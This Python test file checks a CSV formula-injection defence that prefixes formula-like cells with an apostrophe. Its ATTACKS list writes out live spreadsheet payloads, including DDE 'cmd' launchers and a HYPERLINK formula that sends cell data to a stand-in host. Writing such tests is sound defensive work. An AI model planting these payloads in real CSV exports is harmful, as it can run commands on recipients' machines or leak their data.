"""The one CSV cell rule: a cell a spreadsheet would run as a formula gets an apostrophe."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outreach_core.adapters.contact_files import parse_csv
from outreach_core.domain.csv_cells import neutralise, neutralise_csv, restore, write_csv
from outreach_core.ui.charts import csv_bytes

#: what an attacker puts in a contact's name: each start a spreadsheet evaluates
ATTACKS = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spaces before the sign
    "\uff1d1+1",  # full-width equals sign
    "-",
    "-inf",
    "+1 555 0100",  # a phone number is no plain number: a spreadsheet would compute it
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_like_cells_get_an_apostrophe_and_come_back(value: str) -> None:
    """Verify each formula-like start gets a leading apostrophe, and `restore` undoes it."""
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value
    assert neutralise(neutralise(value)) == neutralise(value)  # twice is once


@pytest.mark.parametrize("value", ["-5", "+3.5", "-1e-3", "-.5", "0", "42", -7, 2.5])
def test_plain_numbers_stay_numbers(value: object) -> None:
    """Verify a plain number, negative or signed, is written as is (a spreadsheet reads it as
    a number, and a number cannot hold a formula)."""
    assert neutralise(value) == str(value)


@pytest.mark.parametrize("value", ["ann@example.org", "Ann", "", "'quoted", "a=b", "x-y", "3 + 4"])
def test_other_cells_are_unchanged(value: str) -> None:
    """Verify ordinary text (a sign inside, an apostrophe first) is written unchanged."""
    assert neutralise(value) == value
    assert restore(value) == value


def test_none_is_an_empty_cell() -> None:
    """Verify None is an empty cell, as the csv module writes it."""
    assert neutralise(None) == ""


def test_write_csv_neutralises_the_header_and_every_cell() -> None:
    """Verify the header line and each cell go through the rule; quoting stays valid CSV."""
    text = write_csv(["email", "=HEADER()"], [["-ann@example.org", ATTACKS[0]], ["b@x.org", -5]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["email", "'=HEADER()"],
        ["'-ann@example.org", "'" + ATTACKS[0]],
        ["b@x.org", "-5"],
    ]


def test_a_data_frame_csv_is_neutralised() -> None:
    """Verify CSV text from pandas (a chart's or a table's download) is neutralised cell by
    cell, numbers kept."""
    frame = pd.DataFrame({"name": ATTACKS[:3], "delta": [-1.5, 2, -3]})
    for text in (neutralise_csv(frame.to_csv(index=False)), csv_bytes(frame).decode()):
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0] == ["name", "delta"]
        assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS[:3]]
        assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0"]


def test_a_file_the_product_wrote_reads_back_as_it_was() -> None:
    """Verify importing a CSV the product wrote gives back the original values: an address
    that begins with `-` or `=` survives the round trip."""
    values = [["-ann@example.org", "=Ann"], ["=bob@example.org", "+Bob"]]
    parsed = parse_csv(write_csv(["email", "name"], values).encode(), source="back.csv")
    assert [[r["email"], r["name"]] for r in parsed.rows] == values


@pytest.mark.parametrize("value", ["Ann\r=1+1", "Ann\n=1+1", "\r=1+1"])
def test_a_line_break_in_a_cell_is_quoted_whatever_the_line_end(value: str) -> None:
    """Verify a cell holding a CR or LF is quoted in a "\\n" file too: unquoted, a spreadsheet
    would end the row there and read what follows as a new row's first cell (`=1+1`)."""
    for text in (write_csv(["name"], [[value]]), neutralise_csv(f'name\n"{value}"\n')):
        assert f'"{neutralise(value)}"' in text
        assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], [neutralise(value)]]


@settings(max_examples=300, deadline=None)
@given(values=st.lists(st.text(alphabet="=+-@\t\r\n '\"0123456789.eE,;ab\uff1d", max_size=12)))
def test_any_cells_are_written_safe_and_read_back_whole(values: list[str]) -> None:
    """Verify for any cells: the file parses back into the same number of cells, none begins
    like a formula (plain numbers aside), and each restores to the value given (a value that
    itself begins with an apostrophe before a formula reads back without it: the one loss)."""
    text = write_csv(["v"], [[v] for v in values])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(values) + 1
    for (cell,), value in zip(rows[1:], values, strict=True):
        starts = cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
        assert not starts or re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell)
        assert restore(cell) == restore(value)
